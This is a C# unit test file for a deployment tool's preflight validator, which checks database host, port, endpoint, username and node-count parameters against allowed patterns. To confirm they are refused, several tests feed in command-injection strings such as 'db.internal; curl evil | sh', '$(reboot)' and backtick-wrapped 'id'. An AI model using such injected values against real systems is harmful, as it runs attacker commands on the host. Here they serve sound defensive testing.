using Wso2Serverless.Domain.Preflight;

namespace Wso2Serverless.Domain.Tests.Preflight;

/// <summary>The template's own constraints, applied at preflight: the one source for values that reach a shell.</summary>
public sealed class ParameterConstraintsTests
{
    private static IReadOnlyList<PreflightProblem> Check(Dictionary<string, string> parameters) =>
        ParameterConstraints.Check(Fixtures.Document, parameters);

    [Theory]
    [InlineData("db.internal")]
    [InlineData("wso2-dev.cluster-c1x2y3.us-east-1.rds.amazonaws.com")]
    [InlineData("10.0.1.23")]
    public void Check_AHostName_Passes(string host)
    {
        Check(new() { ["WSO2APIMDBInstanceEndpointAddress"] = host, ["WSO2APIMDBInstanceEndpointPort"] = "3306" }).Should().BeEmpty();
    }

    [Theory]
    [InlineData("db.internal; curl evil | sh")]
    [InlineData("$(reboot)")]
    [InlineData("db.internal\n")] // .NET's $ would let a trailing newline through
    [InlineData("db internal")]
    public void Check_AHostThatWouldRunInAShell_IsRefusedWithoutEchoingIt(string host)
    {
        var problems = Check(new() { ["WSO2APIMDBInstanceEndpointAddress"] = host });

        var problem = problems.Should().ContainSingle().Subject;
        problem.Parameter.Should().Be("WSO2APIMDBInstanceEndpointAddress");
        problem.Kind.Should().Be(PreflightProblemKind.ConstraintViolated);
        problem.Expected.Should().Contain("AllowedPattern [A-Za-z0-9][A-Za-z0-9.-]{0,252}").And.Contain("a host name or IP address");
        problem.ToString().Should().NotContain(host.Trim());
    }

    [Fact]
    public void Check_PortsAndEndpoints_FollowTheirPatterns()
    {
        Check(new() { ["WSO2APIMDBInstanceEndpointPort"] = "3306;id" }).Should().ContainSingle().Which.Parameter.Should().Be("WSO2APIMDBInstanceEndpointPort");
        Check(new() { ["ElasticSearchEndpoint"] = "https://search-logs.eu-west-1.es.amazonaws.com:443" }).Should().BeEmpty();
        Check(new() { ["ElasticSearchEndpoint"] = "" }).Should().BeEmpty();
        Check(new() { ["ElasticSearchEndpoint"] = "https://x`id`" }).Should().ContainSingle().Which.Parameter.Should().Be("ElasticSearchEndpoint");
    }

    [Fact]
    public void Check_LengthsAndNumbers()
    {
        Check(new() { ["DBUsername"] = "wso" }).Should().ContainSingle().Which.Expected.Should().Be("must be at least 4 characters long");
        Check(new() { ["DBUsername"] = new string('u', 17) }).Should().ContainSingle().Which.Expected.Should().Be("must be at most 16 characters long");
        Check(new() { ["NodeCount"] = "0" }).Should().ContainSingle().Which.Expected.Should().Be("must be at least 1");
        Check(new() { ["NodeCount"] = "4" }).Should().ContainSingle().Which.Expected.Should().Be("must be at most 3");
        Check(new() { ["NodeCount"] = "2", ["DBUsername"] = "wso2carbon" }).Should().BeEmpty();
    }

    [Fact]
    public void Check_NoEchoAndAbsentValues_AreNotJudgedHere()
    {
        // A NoEcho value is a secret reference by then, and is never repeated; an absent one takes the default.
        Check(new() { ["DBPassword"] = "/wso2/dev/db-password" }).Should().BeEmpty();
        Check([]).Should().BeEmpty();
    }
}
